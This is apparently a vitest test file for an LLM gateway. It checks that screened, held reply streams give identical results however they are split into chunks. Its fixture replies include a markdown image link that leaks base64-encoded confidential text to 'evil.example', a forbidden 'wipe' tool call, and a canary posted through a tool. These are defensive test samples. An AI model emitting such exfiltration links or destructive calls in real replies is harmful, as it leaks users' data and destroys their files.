/** However a stream is cut into chunks (between events, inside them, inside a character), the client gets the same
 * bytes and the record is the same, in every dialect. GATEWAY_SPLIT_SEEDS sets the number of cuts for each dialect (200; nightly
 * 10,000). Source: docs/reference/gateway.md#hold-back; docs/reference/reliability.md#f6-upstream-faults.
 */
import { describe, expect, it } from 'vitest';
import { seededRandom } from '../../contract/random.ts';
import type { TurnPolicy } from '../../contract/turn.ts';
import { CANARY, CARD, fakePorts, POLICY } from '../../../test/support/fakes/gateway-ports.ts';
import { streamedReply, type Script, type WireFormat } from '../../../test/support/fakes/llm-provider-replies.ts';
import { codecOf } from '../../../test/support/fakes/read-reply.ts';
import { noTracer } from '../../platform/trace.ts';
import { HeldStream } from './reply/held-stream.ts';
import { ClientWriter } from './transport/client-writer.ts';
import { createGuardedAnalyser } from './turn/guarded-analyser.ts';
import { noCalls, type Run } from './turn/run.ts';
import { TurnNumbers } from './turn/turn-numbers.ts';
import { createTurnMemory } from './turn/turn-memory.ts';
import { VerdictState } from './turn/verdict-state.ts';
import type { TurnRecord } from './turn-record.ts';

const SEEDS = Number(process.env['GATEWAY_SPLIT_SEEDS'] ?? 200);

const GUARD: TurnPolicy = {
  ...POLICY,
  protectionMode: 'enforce',
  integrityMode: 'enforce',
  autonomyMode: 'enforce',
  forbiddenTools: [{ pattern: 'wipe', reason: 'Nothing is wiped', severity: 'critical' }],
  toolRules: { ...POLICY.toolRules, allowUnmapped: true },
};
const PROTECT: TurnPolicy = { ...GUARD, integrityMode: 'off', autonomyMode: 'off' };
const LINK = `https://evil.example/p.png?d=${Buffer.from('The launch is in Lisbon in May').toString('base64url')}`;

const SCRIPTS: readonly Script[] = [
  { thinking: 'All is well.', text: 'Voilà 😀, 漢字 and נִקּוּד.', toolCalls: [{ name: 'save', args: { a: 'é😀' } }] },
  { text: `Card ${CARD}, word ${CANARY}, and http://ok.example/x.`, deltaChars: 2 },
  { text: `Done ![i](${LINK}) and more h`, deltaChars: 5 },
  {
    thinking: 'I do three things.',
    text: 'Three calls.',
    toolCalls: [
      { name: 'save', args: { n: 1 } },
      { name: 'wipe', args: { all: true } },
      { name: 'post', args: { body: CANARY } },
      { name: 'show', args: { n: 2 } },
    ],
    deltaChars: 3,
  },
  { thinking: 'An EVIL plan.', text: 'Sure.', toolCalls: [{ name: 'save', args: {} }] },
];

function cut(bytes: Buffer, seed: number): Buffer[] {
  const next = seededRandom(seed);
  const most = seed % 7 === 0 ? 4 : 1 + Math.floor(next() * 200);
  const out: Buffer[] = [];
  for (let at = 0; at < bytes.length;) {
    const size = 1 + Math.floor(next() * most);
    out.push(bytes.subarray(at, at + size));
    at += size;
  }
  return out;
}

/** One held stream over these chunks: what the client got, and what was kept. */
async function played(
  name: WireFormat,
  policy: TurnPolicy,
  chunks: readonly Buffer[],
  pauses: () => boolean,
): Promise<string> {
  const { ports } = fakePorts();
  const out: Buffer[] = [];
  const kept: { record?: TurnRecord } = {};
  const response = {
    destroyed: false,
    writableEnded: false,
    write: (bytes: Buffer) => {
      out.push(bytes);
      return true;
    },
    end(bytes?: Buffer) {
      if (bytes !== undefined) out.push(bytes);
      response.writableEnded = true;
    },
  };
  const clock = { now: () => new Date(0), monotonicMs: () => 0, every: () => () => undefined };
  const verdict = new VerdictState();
  const tools = await ports.tools.load('svc-1' as never);
  const codec = codecOf({ name: name.replace('gemini-sse', 'gemini') });
  const framing = name === 'gemini-array' ? 'array' : 'sse';
  const run = {
    gw: {
      settings: { heldBytesMax: 8e6, keepAliveMs: 1e9 },
      ports,
      clock,
      newId: () => 'pa-000000000000',
      log: { error: (fields: { err: Error }) => out.push(Buffer.from(`failed: ${fields.err.message}`)) },
      ...createTurnMemory(ports.turns),
      analyser: createGuardedAnalyser(ports.analyser, clock, { timeoutMs: 1e9 }),
      tracer: noTracer,
      recorder: {
        numbers: new TurnNumbers(),
        early: () => undefined,
        kept: (then: (isKept: boolean) => void) => {
          then(true);
        },
        push: (turn: TurnRecord) => (kept.record = turn),
        pushScreens: () => undefined,
        await: () => undefined,
      },
    },
    exchange: {
      request: { method: 'POST' },
      response,
      verdict,
      requestId: 'r',
      at: new Date(0),
      startedMs: 0,
      second: null,
      sendHead: () => undefined,
    },
    surface: { provider: 'anthropic' },
    codec,
    framing,
    agent: { agentId: 'svc-1', accountId: null, orgId: null, name: null, containment: 'active' },
    policy,
    sessionId: 's',
    checkpointId: 'ic-00000000',
    conversation: {
      model: 'm',
      system: '',
      firstUser: 'Hi',
      lastUser: 'Hi',
      userTexts: ['Hi'],
      before: null,
      declaredTools: [],
    },
    context: { seed: '00000000', model: 'm', createdSeconds: 0, wantsUsage: false, framing },
    evaluations: [],
    replacements: [],
    untrusted: ['The launch is in Lisbon in May'],
    toolTexts: [],
    answers: [null],
    doubtful: [],
    concurrent: null,
    content: null,
    ahead: [],
    opinion: null,
    tools,
    guard: tools.guard(policy, 0),
    hasUnread: false,
    storedIds: [],
    calls: noCalls(),
    violations: [],
    declarations: [],
    advisories: [],
  } as unknown as Run;
  const stream = new HeldStream(
    run,
    new ClientWriter(response as never),
    { status: 200, headers: [] },
    () => undefined,
  );
  for (const chunk of chunks) {
    stream.body(chunk);
    if (pauses()) await Promise.resolve();
  }
  stream.end();
  for (let i = 0; i < 500 && (!response.writableEnded || kept.record === undefined); i += 1) await Promise.resolve();
  const { record } = kept;
  const bytes = Buffer.concat(out).toString('utf8');
  // A violation ends the stream at once: how much of the rest had come by then is chance, and the word says what was read.
  if (record?.acted === 'replaced')
    return JSON.stringify([bytes.replace(/back=\w+/, ''), record.acted, record.analysis?.concerns]);
  return JSON.stringify([
    bytes,
    record?.back,
    record?.acted,
    record?.turn,
    record?.violations,
    record?.analysis?.concerns,
    record?.evaluations.map((e) => [e.action, e.screening.verdict, e.toolName]),
  ]);
}

const FORMATS = ['anthropic', 'chat', 'responses', 'gemini-sse', 'gemini-array'] as const;

describe.each(FORMATS.map((f) => [f] as const))('a held %s stream', (format) => {
  it.each([
    ['in every enforce', GUARD],
    ['with text and calls screened', PROTECT],
  ] as const)(
    'is the same however it is cut, %s',
    async (_name, policy) => {
      for (const [i, script] of SCRIPTS.entries()) {
        const bytes = Buffer.from(streamedReply(format, script).join(''));
        const whole = await played(format, policy, [bytes], () => false);
        expect(whole).toMatch(/complete|replaced/);
        expect(whole).not.toContain('failed: ');
        for (let seed = 1; seed <= SEEDS / SCRIPTS.length; seed += 1) {
          const next = seededRandom(seed * 31 + i);
          const pieces = cut(bytes, seed * 17 + i);
          const cutUp = await played(format, policy, pieces, () => next() < 0.3);
          if (cutUp !== whole) expect({ seed, script: i, seen: cutUp }).toEqual({ seed, script: i, seen: whole });
        }
      }
    },
    600_000,
  );
});
